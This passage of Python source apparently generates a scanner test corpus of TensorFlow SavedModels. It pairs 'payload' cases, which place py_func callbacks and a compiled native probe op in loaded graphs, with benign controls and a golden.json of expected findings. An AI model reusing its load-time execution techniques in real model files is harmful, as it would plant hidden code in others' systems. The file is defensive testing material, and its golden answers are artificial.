    node = next(n for n in meta_graph.graph_def.node if n.name == info["node"])
    value = tf.make_ndarray(node.attr["value"].tensor)
    return value if value.ndim else value.item()


def find_ops(graph_def: Any, ops: tuple[str, ...]) -> list[JSON]:
    found = [{"op": n.op, "node": n.name, "function": None, "token": token(n)} for n in graph_def.node if n.op in ops]
    for fn in sorted(graph_def.library.function, key=lambda f: f.signature.name):
        found += [{"op": n.op, "node": n.name, "function": fn.signature.name, "token": token(n)}
                  for n in fn.node_def if n.op in ops]
    return found


def token(node: Any) -> str | None:
    """A py_func's callback key (``pyfunc_N``): what it calls in the loading process."""
    return node.attr["token"].s.decode() if "token" in node.attr else None


CHECKPOINT_OPS = ("SaveV2", "RestoreV2")


def saver_own(meta_graph: Any, found: JSON) -> bool:
    """A checkpoint op of the model's own saver. TF1: under the scope of the SaverDef's restore op
    (``save/``). TF2: in a ``_traced_save``/``_traced_restore`` function with a prefix that is not a
    literal (a foreign checkpoint's prefix is a Const, also where TF inlines it there)."""
    if found["op"] not in CHECKPOINT_OPS:
        return False
    restore = meta_graph.saver_def.restore_op_name
    if found["function"] is None:
        return "/" in restore and found["node"].startswith(restore.split("/")[0] + "/")
    if "_traced_save_" not in found["function"] and "_traced_restore_" not in found["function"]:
        return False
    fn = next(f for f in meta_graph.graph_def.library.function if f.signature.name == found["function"])
    node = next(n for n in fn.node_def if n.name == found["node"])
    producer = node.input[0].split(":")[0]
    return not any(n.name == producer and n.op == "Const" for n in fn.node_def)


def locate(built: Built, variant: Variant, case: str) -> list[JSON]:
    sm = saved_model_pb2.SavedModel.FromString((built.path / "saved_model.pb").read_bytes())
    mg = sm.meta_graphs[0]
    if built.nested:
        inner = v1.GraphDef.FromString(inner_bytes(nested_value(mg, built.nested), built.nested))
        found = [{**f, "nested_in": built.nested} for f in find_ops(inner, variant.ops)]
    else:
        found = [{**f, "nested_in": None} for f in find_ops(mg.graph_def, variant.ops)
                 if not saver_own(mg, f)]
    assert found, f"{case}: no {variant.ops} in the written model"
    for f in found:
        f["target"] = f.pop("token") or variant.target(case)
    return found


# --------------------------------------------------------------------------------------------
# benign controls
# --------------------------------------------------------------------------------------------


def text_initializer(vocab: Path) -> tf.lookup.TextFileInitializer:
    return tf.lookup.TextFileInitializer(str(vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                         tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)


def benign_tf1(path: Path, kind: str, tmp: Path) -> Built:
    graph = tf.Graph()
    saver = None
    with graph.as_default():
        x, y = base_tf1()
        main_op = None
        if kind == "asset_table":
            vocab = tmp / "vocab.txt"
            vocab.write_text("a\nb\nc\n")
            table = tf.lookup.StaticHashTable(text_initializer(vocab), -1)  # adds ASSET_FILEPATHS
            ids = table.lookup(tf.constant(["b"]))
            y = y + tf.cast(ids, tf.float32)
            main_op = v1.tables_initializer(name="init_tables")
        elif kind == "print_stderr":
            y = control(tf.print("y =", y, output_stream=sys.stderr), y)

            @tf.function
            def logged(t: tf.Tensor) -> tf.Tensor:
                tf.print("t =", t, output_stream=sys.stderr)
                return t * 1.0
            y = logged(y)
        elif kind == "in_memory_dataset":
            ds = tf.data.Dataset.from_tensor_slices(tf.constant([1.0, 2.0, 3.0])).map(lambda v: v * 2.0).batch(2)
            total = ds.reduce(tf.constant(0.0), lambda a, b: a + tf.reduce_sum(b))
            y = y + total
        elif kind == "saver_save_1":
            saver = v1.train.Saver(name="save_1")
        save_tf1(path, graph, {"y": tf.identity(y, name="y")}, {"x": x}, main_op=main_op, saver=saver)
    return Built(path, "tf1_saved_model", serve=lambda: tf1_serve(path), load=lambda: tf1_session(path)[0].close())


class AssetModel(Base):
    def __init__(self, vocab: Path) -> None:
        super().__init__()
        self.table = tf.lookup.StaticHashTable(text_initializer(vocab), -1)  # tracked as an Asset

    @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
    def lookup(self, words: tf.Tensor) -> tf.Tensor:
        return self.table.lookup(words)


def benign_tf2(path: Path, kind: str, tmp: Path) -> Built:
    if kind == "asset_table":
        vocab = tmp / "vocab.txt"
        vocab.write_text("a\nb\nc\n")
        module: Base = AssetModel(vocab)
        sigs = {"serving_default": module.serve, "lookup": module.lookup}
    else:
        module = Base()
        sigs = {"serving_default": module.serve}
    tf.saved_model.save(module, str(path), signatures=sigs)
    (path / "fingerprint.pb").unlink(missing_ok=True)
    return Built(path, "tf2_saved_model", serve=lambda: call_tf2(path, "serve"),
                 load=lambda: tf.saved_model.load(str(path)))


def benign_meta(path: Path) -> Built:
    """A TF1 training graph (.meta): Adam, summaries merged in-graph, a Saver."""
    graph = tf.Graph()
    with graph.as_default():
        _, y = base_tf1()
        loss = tf.reduce_mean(tf.square(y))
        v1.summary.scalar("loss", loss)
        v1.summary.merge_all()
        v1.train.AdamOptimizer(0.1).minimize(loss, global_step=v1.train.get_or_create_global_step())
        saver = v1.train.Saver()
        path.mkdir(parents=True)
        saver.export_meta_graph(str(path / "model.meta"))

    def serve() -> None:
        with tf.Graph().as_default() as g, v1.Session(graph=g) as sess:
            v1.train.import_meta_graph(str(path / "model.meta"))
            sess.run(v1.global_variables_initializer())
            sess.run(["Mean:0", "Merge/MergeSummary:0"], {"x:0": X_VALUE})
    return Built(path, "meta_graph", serve=serve, load=serve)


BENIGN: dict[str, tuple[str, Callable[[Path, Path], Built]]] = {
    "benign_tf1_dense": ("TF1 SavedModel: one resource variable, its Saver, a predict signature",
                         lambda p, t: benign_tf1(p, "dense", t)),
    "benign_tf1_asset_table": ("TF1 SavedModel: vocabulary table initialised from an asset (assets/vocab.txt) "
                               "by the main op", lambda p, t: benign_tf1(p, "asset_table", t)),
    "benign_tf1_print_stderr": ("TF1 SavedModel: tf.print to stderr in the graph and in a function",
                                lambda p, t: benign_tf1(p, "print_stderr", t)),
    "benign_tf1_in_memory_dataset": ("TF1 SavedModel: in-memory tf.data pipeline (from_tensor_slices, map, batch, "
                                     "reduce) on the served path", lambda p, t: benign_tf1(p, "in_memory_dataset", t)),
    "benign_tf1_saver_save_1": ("TF1 SavedModel whose own Saver is named save_1 (SaverDef names save_1/...)",
                                lambda p, t: benign_tf1(p, "saver_save_1", t)),
    "benign_tf2_module": ("TF2 SavedModel: tf.Module with variables; SaveV2/RestoreV2 in its "
                          "__traced_save/__traced_restore functions", lambda p, t: benign_tf2(p, "module", t)),
    "benign_tf2_asset_table": ("TF2 SavedModel: StaticHashTable from a TextFileInitializer (tracked asset), "
                               "initialised by __saved_model_init_op", lambda p, t: benign_tf2(p, "asset_table", t)),
    "benign_tf1_training_meta": ("TF1 .meta of a training graph: Adam, global step, merged scalar summary, Saver",
                                 lambda p, t: benign_meta(p)),
}


def prove_benign(built: Built, case: str) -> JSON:
    probe_dir = PROOF
    shutil.rmtree(probe_dir, ignore_errors=True)
    probe_dir.mkdir(parents=True)
    FIRED.clear()
    assert built.load and built.serve
    built.load()
    built.serve()
    left = sorted(str(p) for p in probe_dir.rglob("*"))
    assert not left and not FIRED, (case, left, FIRED)
    return {"fired": False, "proof": "loaded and served: no file under the proof root, no Python callback"}


# --------------------------------------------------------------------------------------------
# native code
# --------------------------------------------------------------------------------------------

NATIVE: Any = None


def load_native(tmp: Path) -> Path:
    """Compile the probe op against this TensorFlow and load it into the process."""
    global NATIVE
    so = tmp / "probe_op.so"
    cmd = ["g++", "-std=c++17", "-shared", "-fPIC", "-O1", str(NATIVE_SOURCE), "-o", str(so),
           *tf.sysconfig.get_compile_flags(), *tf.sysconfig.get_link_flags()]
    subprocess.run(cmd, check=True, capture_output=True)
    NATIVE = tf.load_op_library(str(so))
    return so


WITHOUT_LIBRARY = """
import os, socket, sys
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
from tensorflow.core.protobuf import control_flow_pb2, saved_model_pb2
for path in sys.argv[1:]:
    sm = saved_model_pb2.SavedModel.FromString(open(path + "/saved_model.pb", "rb").read())
    try:
        with tf.Graph().as_default():
            tf.compat.v1.train.import_meta_graph(sm.meta_graphs[0])
        print("imported")
    except Exception as exc:
        line = [l for l in str(exc).splitlines() if l.strip()][0]
        print(f"{type(exc).__name__}: {line}".replace(f"running on {socket.gethostname()}", "running on <host>")[:300])
"""


def without_library(paths: list[Path]) -> list[str]:
    """What a TensorFlow process that never loaded the probe library says on import."""
    proc = subprocess.run([sys.executable, "-c", WITHOUT_LIBRARY, *map(str, paths)], capture_output=True,
                          text=True, check=True)
    lines = proc.stdout.splitlines()
    assert len(lines) == len(paths), proc.stderr[-2000:]
    return lines


# --------------------------------------------------------------------------------------------
# driver
# --------------------------------------------------------------------------------------------


def sample_security() -> None:
    out = fresh_dir(OUT)
    v1.enable_control_flow_v2()
    cases: list[JSON] = []
    with tempfile.TemporaryDirectory() as tmp_name:
        load_native(Path(tmp_name))
        # benign models' vocabularies: a fixed source path, since TF1 keeps it in the asset Const
        tmp = ASSET_SOURCE
        shutil.rmtree(tmp, ignore_errors=True)
        tmp.mkdir(parents=True)
        plan = [(cap, place, MATRIX[cap][place]) for cap in CAPABILITIES for place in PLACES]
        plan += [(VARIANTS[key].capability, "graph", key) for key in EXTRA_GRAPH]
        for cap, place, key in plan:
            variant = VARIANTS[key]
            extra = key != MATRIX[cap]["graph"] and place == "graph"
            name = f"{SHORT[cap]}_{place}" + (f"_{key}" if extra else "")
            path = out / name
            builder = build_tf2 if place in TF2_PLACES else build_tf1
            built = builder(path, place, variant, name)
            entry: JSON = {
                "name": name, "path": f"{OUT}/{name}", "format": built.fmt, "capability": cap,
                "place": place, "when": PLACES[place][0], "variant": key, "ops": list(variant.ops),
                "payload": locate(built, variant, name), **built.extra,
            }
            entry.update(prove(built, variant, place, name))
            cases.append(entry)
            print(f"{name:48s} {entry['proof'][:90]}", flush=True)
        natives = [c for c in cases if c["capability"] == "native"]
        for entry, said in zip(natives, without_library([out / c["name"] for c in natives])):
            entry["without_library"] = said
        benign = []
        for name, (what, build) in BENIGN.items():
            built = build(out / name, tmp)
            entry = {"name": name, "path": f"{OUT}/{name}", "format": built.fmt, "what": what,
                     "expected_findings": 0, **prove_benign(built, name)}
            benign.append(entry)
            print(f"{name:48s} {entry['proof'][:90]}", flush=True)
    shutil.rmtree(PROOF, ignore_errors=True)
    shutil.rmtree(ASSET_SOURCE, ignore_errors=True)
    write_json(out / "golden.json", {
        "tf_version": tf.__version__,
        "proof_root": str(PROOF),
        "capabilities": CAPABILITIES,
        "places": {p: {"when": w, "what": d} for p, (w, d) in PLACES.items()},
        "variants": {k: {"capability": v.capability, "ops": list(v.ops)} for k, v in VARIANTS.items()},
        "cases": cases,
        "benign": benign,
    })
